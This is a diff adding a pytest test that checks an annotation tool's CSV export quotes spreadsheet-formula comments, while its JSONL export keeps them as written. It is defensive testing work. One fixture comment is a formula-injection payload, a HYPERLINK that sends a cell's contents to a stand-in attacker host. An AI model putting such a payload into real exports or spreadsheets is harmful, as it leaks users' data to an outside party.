@@ -139,6 +139,33 @@ def test_export_metadata(labeled_store, tmp_path):
     assert frame["annotator"].unique().tolist() == ["local"]
 
 
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_comments_that_a_spreadsheet_would_run_are_quoted_in_csv_only(tmp_path, fmt):
+    """An annotator's comment "=HYPERLINK(…)" would be a live formula for whoever opens
+    the CSV export in a spreadsheet; typed formats keep it as written."""
+    project = served(tmp_path, "id,text\n1,a\n2,=1+1\n3,c\n4,d\n5,e\n", "pos,neg")
+    comments = ['=HYPERLINK("http://evil.example/?"&A1,"see")', "+1", "@me", "- blurry",
+                "fine"]
+    for item, comment in zip("1234", comments):
+        project.annotate(LOCAL_USER, {"item_id": item, "label": "pos", "comment": comment})
+    project.skip(LOCAL_USER, {"item_id": "5", "comment": comments[-1]})
+    db = project.store.path
+    project.store.close()
+    out = tmp_path / f"meta.{fmt}"
+    assert cli.main(["export", "--store", str(db), "--table", "metadata",
+                     "-o", str(out)]) == 0
+    if fmt == "csv":
+        written = pd.read_csv(out, dtype=str, keep_default_na=False)["comment"].tolist()
+        assert written == ["'" + c for c in comments[:4]] + ["fine"]
+    else:
+        rows = [json.loads(line) for line in out.read_text("utf-8").splitlines()]
+        assert [r["comment"] for r in rows] == comments
+    # The items are the data scientist's own: their cells are written as they are.
+    labels = tmp_path / "labels.csv"
+    assert cli.main(["export", "--store", str(db), "-o", str(labels)]) == 0
+    assert "\n2,=1+1,pos," in labels.read_text("utf-8")
+
+
 @pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
 def test_metadata_label_ids_stay_whole_numbers_beside_a_skip(labeled_store, tmp_path, fmt):
     out = tmp_path / f"meta.{fmt}"
